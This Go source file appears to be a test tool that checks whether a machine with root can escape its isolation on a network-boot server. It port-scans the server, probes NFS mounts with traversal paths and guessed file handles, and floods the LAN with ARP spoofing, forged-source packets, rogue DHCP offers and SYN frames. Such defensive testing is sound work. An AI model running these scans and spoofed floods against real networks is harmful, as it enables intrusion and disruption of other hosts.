// Command hostile is what root on a machine may try. It prints a line that begins
// with "REACHED" for what it should not have got, and "done" at the end.
//
//	hostile reach SERVER DIGEST ADDR:PORT...
//	hostile flood SECONDS SERVER VICTIM
package main

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"strconv"
	"sync"
	"syscall"
	"time"
)

const answers = 2 * time.Second // how long something may take that is there

func main() {
	switch os.Args[1] {
	case "reach":
		reach(os.Args[2], os.Args[3], os.Args[4:])
	case "flood":
		seconds, _ := strconv.Atoi(os.Args[2])
		flood(time.Duration(seconds)*time.Second, net.ParseIP(os.Args[3]).To4(), net.ParseIP(os.Args[4]).To4())
	}
	fmt.Println("done")
}

// reach tries to get at what is not for this machine: other ports, and another image,
// by its digest.
func reach(server, digest string, others []string) {
	open := map[int]bool{53: true, 80: true, 514: true, 1912: true, 2049: true}
	for port := 1; port < 1000; port++ {
		if !open[port] {
			others = append(others, net.JoinHostPort(server, strconv.Itoa(port)))
		}
	}
	var all sync.WaitGroup
	slots := make(chan struct{}, 40)
	for _, addr := range others {
		slots <- struct{}{}
		all.Go(func() {
			defer func() { <-slots }()
			if c, err := net.DialTimeout("tcp", addr, answers); err == nil {
				fmt.Println("REACHED", addr)
				c.Close()
			}
		})
	}
	all.Wait()
	if r, err := http.Get("http://" + server + "/boot/AAAAAAAAAAAAAAAAAAAAAAAAAA"); err != nil || r.StatusCode != http.StatusForbidden {
		fmt.Println("REACHED instructions", r, err)
	}
	handle, _ := hex.DecodeString(digest[len("sha256:"):][:32])
	for _, path := range []string{"/" + digest, "/", "/../../etc", ""} {
		if status := call(server, 100005, 1, opaque([]byte(path))); status != 13 { // MNT3ERR_ACCES
			fmt.Println("REACHED mount of", path, status)
		}
	}
	for ino := range uint32(100) {
		h := binary.BigEndian.AppendUint32(append([]byte(nil), handle...), ino)
		if status := call(server, 100003, 1, opaque(h)); status != 70 { // NFS3ERR_STALE
			fmt.Println("REACHED file", ino, status)
		}
	}
}

func opaque(b []byte) []byte {
	out := binary.BigEndian.AppendUint32(nil, uint32(len(b)))
	return append(append(out, b...), make([]byte, -len(b)&3)...)
}

// call calls a procedure of version 3 with AUTH_NONE, and returns its status.
func call(server string, program, procedure uint32, args []byte) int {
	c, err := net.DialTimeout("tcp", server+":2049", 20*time.Second)
	if err != nil {
		return -1
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(20 * time.Second))
	var b []byte
	for _, v := range []uint32{0, 7, 0, 2, program, 3, procedure, 0, 0, 0, 0} {
		b = binary.BigEndian.AppendUint32(b, v)
	}
	b = append(b, args...)
	binary.BigEndian.PutUint32(b, 1<<31|uint32(len(b)-4))
	c.Write(b)
	answer := make([]byte, 32) // mark, xid, reply, accepted, verifier, success, status
	if _, err := io.ReadFull(c, answer); err != nil {
		return -2
	}
	return int(binary.BigEndian.Uint32(answer[28:]))
}

// flood sends whatever a machine may not, or too much of it, for some time.
func flood(d time.Duration, server, victim net.IP) {
	iface, err := net.InterfaceByName("eth0")
	if err != nil {
		fmt.Println(err)
		return
	}
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
	if err != nil {
		fmt.Println(err)
		return
	}
	to := &syscall.SockaddrLinklayer{Ifindex: iface.Index, Halen: 6}
	own, everybody := []byte(iface.HardwareAddr), []byte{255, 255, 255, 255, 255, 255}
	router := []byte("\x02walt\x01")
	addrs, _ := iface.Addrs()
	me, _, _ := net.ParseCIDR(addrs[0].String())
	me = me.To4()
	sent := 0
	for end := time.Now().Add(d); time.Now().Before(end); sent++ {
		random := []byte{0x52, 0x54, byte(rand.IntN(256)), byte(rand.IntN(256)), byte(rand.IntN(256)), byte(rand.IntN(256))}
		var f []byte
		switch sent % 8 {
		case 0: // the switch is to learn an address
			f = ethernet(everybody, random, 0x0800, packet(me, victim, 17, udp(1, 2, "x")))
		case 1: // I am the server
			f = ethernet(everybody, own, 0x0806, arp(own, server, everybody, victim))
		case 2: // I am my neighbour
			f = ethernet(router, own, 0x0800, packet(victim, server, 6, segment(2049)))
		case 3: // here is your address
			f = ethernet(everybody, own, 0x0800, packet(me, []byte{255, 255, 255, 255}, 17, udp(67, 68, "offer")))
		case 4: // here is your router
			f = ethernet([]byte{0x33, 0x33, 0, 0, 0, 1}, own, 0x86dd, make([]byte, 64))
		case 5: // half of a connection
			f = ethernet(router, own, 0x0800, packet(me, server, 6, segment(2049)))
		case 6: // a question
			f = ethernet(router, own, 0x0800, packet(me, server, 17, udp(uint16(sent), 53, "\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06nobody\x00\x00\x01\x00\x01")))
		case 7: // anything
			f = make([]byte, 14+rand.IntN(1400))
			for i := range f {
				f[i] = byte(rand.IntN(256))
			}
		}
		syscall.Sendto(fd, f, 0, to) // what is not sent does no harm
	}
	fmt.Println("sent", sent)
}

func ethernet(to, from []byte, kind uint16, body []byte) []byte {
	b := append(append([]byte(nil), to...), from...)
	return append(binary.BigEndian.AppendUint16(b, kind), body...)
}

func arp(mac, ip, toMAC, to []byte) []byte {
	b := []byte{0, 1, 8, 0, 6, 4, 0, 2} // a reply
	return append(append(append(append(b, mac...), ip...), toMAC...), to...)
}

func packet(from, to []byte, protocol byte, body []byte) []byte {
	b := []byte{0x45, 0, 0, 0, 0, 0, 0, 0, 64, protocol, 0, 0}
	binary.BigEndian.PutUint16(b[2:], uint16(20+len(body)))
	b = append(append(b, from...), to...)
	sum := uint32(0)
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(b[10:], ^uint16(sum))
	return append(b, body...)
}

func udp(from, to uint16, body string) []byte {
	var b []byte
	for _, v := range []uint16{from, to, uint16(8 + len(body)), 0} { // without a checksum
		b = binary.BigEndian.AppendUint16(b, v)
	}
	return append(b, body...)
}

func segment(to uint16) []byte {
	b := binary.BigEndian.AppendUint16(nil, uint16(rand.IntN(60000)+1))
	b = binary.BigEndian.AppendUint16(b, to)
	b = binary.BigEndian.AppendUint32(b, rand.Uint32())
	return append(b, 0, 0, 0, 0, 0x50, 2, 0xff, 0xff, 0, 0, 0, 0) // SYN; its checksum is wrong
}
